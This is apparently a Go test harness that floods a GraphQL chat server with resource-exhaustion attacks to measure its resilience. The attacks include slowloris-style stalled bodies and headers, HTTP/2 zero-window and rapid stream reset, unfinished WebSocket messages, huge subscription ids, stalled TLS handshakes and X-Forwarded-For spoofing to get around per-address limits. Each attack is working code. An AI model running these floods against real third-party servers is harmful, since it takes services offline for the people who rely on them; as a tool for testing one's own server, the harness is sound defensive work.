//go:build linux

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/gobwas/ws"
	"github.com/gobwas/ws/wsutil"
)

// holding are attempts that make the server keep memory or files: by unread answers, unfinished requests and idle
// connections.
var holding = []attempt{
	{
		name: "answers not read", lasts: heavyLasts,
		sent: "300 connections that ask for 200 entries of 16 KiB and read nothing",
		why:  "2.0 GB for ever",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := fillLog(ctx, a)
			if err != nil {
				return err
			}
			a.prepared()
			request := c.raw(m.access, operation(`{chatEntries(first:200){nodes{body}}}`, nil), 0)
			return a.holdRequests(ctx, a.n(300), 1, string(request))
		},
	},
	{
		name: "answers not read, from 100 addresses", lasts: heavyLasts,
		sent: "the same by 10 connections from each of 100 addresses",
		why:  "a limit by address bounds nothing in sum",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := fillLog(ctx, a)
			if err != nil {
				return err
			}
			a.prepared()
			_ = c
			request := a.attacker(0).raw(m.access, operation(`{chatEntries(first:200){nodes{body}}}`, nil), 0)
			return a.holdRequests(ctx, a.n(1000), 100, string(request))
		},
	},
	{
		name: "answers not read over HTTP/2", lasts: heavyLasts,
		with: settings{tls: true},
		sent: "4 connections with a window of 0 and 250 streams each that ask for 200 entries of 16 KiB",
		why:  "1.7 GB by one connection",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := fillLog(ctx, a)
			if err != nil {
				return err
			}
			a.prepared()
			body := operation(`{chatEntries(first:200){nodes{body}}}`, nil)
			each(4, func(int) { a.streams(ctx, c, m, body, a.n(250), false) })
			return nil
		},
	},
	{
		name: "streams reset over HTTP/2", lasts: heavyLasts,
		with: settings{tls: true},
		sent: "4 connections that open a stream, ask for 49 aliases of 200 entries of 16 KiB, and reset it, as fast as they can",
		why:  "what is asked by a stream that is reset is executed all the same",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := fillLog(ctx, a)
			if err != nil {
				return err
			}
			a.prepared()
			body := operation(`{chatEntries(first:200){nodes{`+aliases("a", "body", 49)+`}}}`, nil)
			each(4, func(int) { a.streams(ctx, c, m, body, 100_000, true) })
			return nil
		},
	},
	{
		name: "bodies that stall", lasts: 45 * time.Second,
		sent: "300 requests of 100 bytes to a path that does not exist, of which one byte comes",
		why:  "250 of 300 were neither answered nor closed after 170 s",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			request := strings.Replace(string(a.attacker(0).raw("", "{", 100)), "POST /graphql", "POST /nope", 1)
			return a.stall(ctx, a.n(300), request)
		},
	},
	{
		name: "bodies that stall at the pages", lasts: 45 * time.Second,
		sent: "60 each to /, /healthz, /readyz, /metrics and /graphql",
		why:  "the same on every path",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			var all sync.WaitGroup
			for _, path := range []string{"/", "/healthz", "/readyz", "/metrics", "/graphql"} {
				all.Go(func() {
					request := strings.Replace(string(a.attacker(0).raw("", "{", 100)), "POST /graphql", "POST "+path, 1)
					_ = a.stall(ctx, a.n(60), request)
				})
			}
			all.Wait()
			return nil
		},
	},
	{
		name: "bodies that stop before their last byte", lasts: heavyLasts,
		sent: "800 requests of 1 MiB, of which the last byte does not come",
		why:  "each is kept in memory until it is given up",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			body := `{"query":"{session{id}}","variables":{"a":"` + strings.Repeat("x", MiB-100)
			return a.holdRequests(ctx, a.n(800), 1, string(a.attacker(0).raw("", body, len(body)+10)))
		},
	},
	{
		name: "bodies that stop before their last byte, from 100 addresses",
		sent: "the same by 10 connections from each of 100 addresses",
		why:  "a limit by address bounds nothing in sum",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			body := `{"query":"{session{id}}","variables":{"a":"` + strings.Repeat("x", MiB-100)
			return a.holdRequests(ctx, a.n(1000), 100, string(a.attacker(0).raw("", body, len(body)+10)))
		},
	},
	{
		name: "bodies that stop before their last byte over HTTP/2",
		with: settings{tls: true},
		sent: "800 connections with a stream whose body is as much of 1 MiB as its window has, save the last byte",
		why:  "what a stream has sent and nobody has read is kept for it",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			body := `{"query":"{session{id}}","variables":{"a":"` + strings.Repeat("x", MiB-100)
			return a.hold(ctx, a.n(800), func(int) (net.Conn, error) {
				c := a.attacker(0)
				conn, err := c.dial(ctx, "h2")
				if err != nil {
					return nil, err
				}
				_ = conn.SetDeadline(time.Now().Add(requestTimeout))
				return conn, c.upload(conn, body)
			})
		},
	},
	{
		name: "messages that do not end", lasts: heavyLasts,
		sent: "800 sockets of 16 connections that send a message of 1 MiB in frames of 64 KiB, of which the last does not come",
		why:  "each is kept in memory",
		attack: func(ctx context.Context, a *assault) error {
			var c *client
			members := make([]member, 16) // a connection has 64 sockets
			for i := range members {
				var err error
				if c, members[i], err = a.join(ctx, 0, "attack", ""); err != nil {
					return err
				}
			}
			a.prepared()
			var next atomic.Int64
			return a.holdSockets(ctx, a.n(800), func(_ int, s *socket) error {
				part := bytes.Repeat([]byte("x"), 64<<10)
				for i := range 15 {
					op := ws.OpContinuation
					if i == 0 {
						op = ws.OpText
					}
					if err := ws.WriteFrame(s.conn, ws.MaskFrameInPlace(ws.NewFrame(op, false, part))); err != nil {
						return err
					}
				}
				return nil
			}, func(ctx context.Context) (*socket, error) {
				return c.socket(ctx, members[int(next.Add(1))%len(members)].access)
			})
		},
	},
	{
		name: "inits of 1 MB", lasts: heavyLasts,
		sent: "800 sockets whose connection_init has a payload of 900 KiB",
		why:  "it must not be kept with the socket",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := a.join(ctx, 0, "attack", "")
			if err != nil {
				return err
			}
			a.prepared()
			payload, err := json.Marshal(map[string]string{"Authorization": "Bearer " + m.access, "note": strings.Repeat("x", 900<<10)})
			if err != nil {
				return err
			}
			return a.holdSockets(ctx, a.n(800), func(_ int, s *socket) error {
				return s.send(message{Type: "connection_init", Payload: payload})
			}, c.upgrade)
		},
	},
	{
		name: "ids of 1 MB", lasts: heavyLasts,
		sent: "250 subscriptions of one socket under ids of 1 MB of <, and an entry of one byte a second",
		why:  "2.4 GB, and an entry of one byte sent 250 MB",
		attack: func(ctx context.Context, a *assault) error {
			c, m, err := a.join(ctx, 0, "attack", "")
			if err != nil {
				return err
			}
			a.prepared()
			var closed atomic.Int64
			each(4, func(int) {
				s, err := c.socket(ctx, m.access)
				if err != nil {
					return
				}
				go func() { // text that JSON need not escape goes out as it is: half a MiB here is three there
					for i := range a.n(64) {
						id := fmt.Sprint(i) + strings.Repeat("<", 999_000)
						raw := `{"type":"subscribe","id":"` + id + `","payload":` + operation(`subscription{entryAdded{seq}}`, nil) + `}`
						_ = s.conn.SetWriteDeadline(time.Now().Add(requestTimeout))
						if wsutil.WriteClientText(s.conn, []byte(raw)) != nil {
							return
						}
					}
					for sleep(ctx, time.Second) {
						_ = c.ask(ctx, m.access, addQuery, map[string]any{"c": m.id, "b": "x"}, nil)
					}
				}()
				if code := s.closeCode(ctx); code != 0 && ctx.Err() == nil {
					closed.Add(1)
				}
			})
			a.figure("sockets that took the ids", float64(4-closed.Load()), 0)
			return nil
		},
	},
	{
		name: "idle connections",
		sent: "8,000 connections of one address that ask once and stay",
		why:  "all were taken, and with few files everybody else timed out",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			request := strings.Replace(string(a.attacker(0).raw("", "", 0)), "POST /graphql", "GET /healthz", 1)
			return a.holdRequests(ctx, a.n(8000), 1, request)
		},
	},
	{
		name: "idle connections, with few files", lasts: heavyLasts,
		with: settings{files: 512},
		sent: "1,000 connections of one address that say nothing, to a server that may open 512 files; the people open a socket a second",
		why:  "everybody else timed out, with nothing in the log",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			go a.visit(ctx)
			return a.holdRequests(ctx, 1000, 1, "")
		},
	},
	{
		name: "idle connections from 100 addresses, with few files", lasts: heavyLasts,
		with: settings{files: 512},
		sent: "the same by 10 connections from each of 100 addresses",
		why:  "a limit by address bounds nothing in sum",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			go a.visit(ctx)
			return a.holdRequests(ctx, 1000, 100, "")
		},
	},
	{
		name: "headers that do not end", lasts: heavyLasts,
		sent: "1,900 connections of one address with a header of 32 KiB in lines of five bytes, of which the end does not come",
		why:  "1.5 GB: a header's bytes are bounded, and its lines are not",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			header := "GET /healthz HTTP/1.1\nHost: " + a.host + "\n" + tinyLines(32<<10)
			return a.hold(ctx, a.n(1900), func(int) (net.Conn, error) {
				conn, err := a.attacker(0).dialPlain(ctx)
				if err == nil {
					_ = conn.SetWriteDeadline(time.Now().Add(requestTimeout))
					_, err = io.WriteString(conn, header)
				}
				return conn, err
			})
		},
	},
	{
		name: "handshakes that stall",
		with: settings{tls: true},
		sent: "4,000 connections of one address that begin a TLS handshake and stop",
		why:  "a connection counts before it speaks HTTP",
		attack: func(ctx context.Context, a *assault) error {
			a.prepared()
			return a.hold(ctx, a.n(4000), func(i int) (net.Conn, error) {
				conn, err := a.attacker(0).dialPlain(ctx)
				if err == nil {
					_, err = conn.Write([]byte{22, 3, 1, 2, 0, 1}) // a record of 512 bytes with a ClientHello, of which one is there
				}
				return conn, err
			})
		},
	},
}

// tinyLines returns about n bytes of header lines, each with a name of its own of three letters.
func tinyLines(n int) string {
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(string([]byte{letters[i%36], letters[i/36%36], letters[i/1296%36]}) + ":\n")
	}
	return b.String()
}

// holdConnections bounds the dials at once.
const holdConnections = 64

// hold opens n connections and keeps each until ctx ends or the server closes it.
func (a *assault) hold(ctx context.Context, n int, open func(i int) (net.Conn, error)) error {
	slots := make(chan struct{}, holdConnections)
	each(n, func(i int) {
		slots <- struct{}{}
		conn, err := net.Conn(nil), ctx.Err()
		if err == nil {
			conn, err = open(i)
		}
		<-slots
		if ctx.Err() == nil {
			a.tally(err)
		}
		if conn != nil {
			defer conn.Close()
		}
		if err != nil {
			return
		}
		<-ctx.Done()
	})
	return nil
}

// holdRequests sends the same request over n connections, from several addresses, and reads nothing.
func (a *assault) holdRequests(ctx context.Context, n, places int, request string) error {
	return a.hold(ctx, n, func(i int) (net.Conn, error) {
		c := a.attacker(i % places)
		conn, err := c.dial(ctx, "http/1.1")
		if err != nil {
			return nil, err
		}
		if tcp, ok := conn.(*net.TCPConn); ok {
			_ = tcp.SetReadBuffer(4 << 10) // so that the server must keep unread data
		}
		_ = conn.SetWriteDeadline(time.Now().Add(requestTimeout))
		_, err = io.WriteString(conn, c.as(request))
		return conn, err
	})
}

// as returns a request of another client with this client's identity.
func (c *client) as(request string) string {
	if ownNetwork() {
		return request
	}
	before, rest, found := strings.Cut(request, "X-Forwarded-For: ")
	if !found {
		return request
	}
	_, after, _ := strings.Cut(rest, "\r\n")
	return before + "X-Forwarded-For: " + c.address.String() + "\r\n" + after
}

// stall sends part of a request over each of n connections, reads, and counts the connections still open when ctx ends.
func (a *assault) stall(ctx context.Context, n int, request string) error {
	var open atomic.Int64
	each(n, func(int) {
		conn, err := a.attacker(0).dial(ctx, "http/1.1")
		if err != nil {
			return
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
		defer stop()
		if _, err := io.WriteString(conn, request); err != nil {
			return
		}
		_, err = io.Copy(io.Discard, conn)
		if err != nil && errors.Is(err, net.ErrClosed) {
			open.Add(1) // by us, at the end
		}
	})
	a.figure("stalled requests still open", float64(open.Load()), 0)
	return nil
}

// holdSockets opens n WebSockets and does something with each.
func (a *assault) holdSockets(ctx context.Context, n int, do func(i int, s *socket) error, open func(context.Context) (*socket, error)) error {
	return a.hold(ctx, n, func(i int) (net.Conn, error) {
		s, err := open(ctx)
		if err != nil {
			return nil, err
		}
		_ = s.conn.SetWriteDeadline(time.Now().Add(requestTimeout))
		return s.conn, do(i, s)
	})
}

// closeCode reads until the socket or ctx ends, and returns the close code of the server, or 0 where it sent none.
func (s *socket) closeCode(ctx context.Context) ws.StatusCode {
	stop := context.AfterFunc(ctx, s.close)
	defer stop()
	for {
		header, err := ws.ReadHeader(s.in)
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return 0
			}
			return ws.StatusAbnormalClosure
		}
		if header.OpCode != ws.OpClose {
			if _, err := io.CopyN(io.Discard, s.in, header.Length); err != nil {
				continue
			}
			continue
		}
		payload := make([]byte, header.Length)
		if _, err := io.ReadFull(s.in, payload); err != nil {
			return ws.StatusAbnormalClosure
		}
		code, _ := ws.ParseCloseFrameData(payload)
		return code
	}
}

// visit connects new people one after the other, each from an address of its own. Each must be served.
func (a *assault) visit(ctx context.Context) {
	for i := 100; ctx.Err() == nil; i++ {
		c := a.client(address(true, i))
		one, cancel := context.WithTimeout(ctx, 5*time.Second)
		m, err := c.connect(one, officeSession, "", "")
		if err == nil {
			var s *socket
			if s, err = c.socket(one, m.access); err == nil {
				s.close()
			}
		}
		cancel()
		c.close()
		if err != nil && ctx.Err() == nil {
			a.people.harmed("a visitor: " + codeOf(err))
		}
		sleep(ctx, time.Second)
	}
}

// upload begins a stream of HTTP/2 and sends as much of a body as the server takes unread, without its end.
func (c *client) upload(conn net.Conn, body string) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	const first = 65_535 // the window of RFC 9113 until the server names another
	stream, all := uint32(first), uint32(first)
	for settled, raised := false, false; !settled || !raised; {
		frame, err := framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
				stream = size
			}
			settled = true
			raised = raised || f.IsAck() // the server raises the other one before, or not at all
		case *http2.WindowUpdateFrame:
			all += f.Increment
			raised = true
		}
	}
	var block bytes.Buffer
	c.writeHead(hpack.NewEncoder(&block), "")
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
		return err
	}
	for piece := range slices.Chunk([]byte(body[:min(len(body), int(min(stream, all)))]), 16<<10) {
		if err := framer.WriteData(1, false, piece); err != nil {
			return err
		}
	}
	return nil
}

// writeHead writes the header of a POST for HTTP/2.
func (c *client) writeHead(encoder *hpack.Encoder, token string) {
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: c.server.host}, {Name: ":path", Value: "/graphql"}, {Name: "content-type", Value: "application/json"},
		{Name: "authorization", Value: "Bearer " + token}, {Name: "x-forwarded-for", Value: c.address.String()}} {
		if f.Name != "authorization" || token != "" {
			_ = encoder.WriteField(f) // into memory
		}
	}
}

// streams opens n HTTP/2 streams with the same operation on one connection, which gives their answers no window. With reset,
// each stream is reset right after its request.
func (a *assault) streams(ctx context.Context, c *client, m member, body string, n int, reset bool) {
	conn, err := c.dial(ctx, "h2")
	if err != nil {
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return
	}
	var writing sync.Mutex // the reader acknowledges what it reads
	read := make(chan struct{})
	go func() {
		defer close(read)
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				return
			}
			writing.Lock()
			switch f := frame.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = framer.WriteSettingsAck()
				}
			case *http2.PingFrame:
				_ = framer.WritePing(true, f.Data)
			}
			writing.Unlock()
		}
	}()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block) // one for the connection, whose table it shares with the server
	for i := range n {
		block.Reset()
		c.writeHead(encoder, m.access)
		id := uint32(2*i + 1)
		writing.Lock()
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
		if err == nil {
			err = framer.WriteData(id, true, []byte(body))
		}
		if err == nil && reset {
			err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		writing.Unlock()
		if err != nil {
			break
		}
	}
	<-read
}
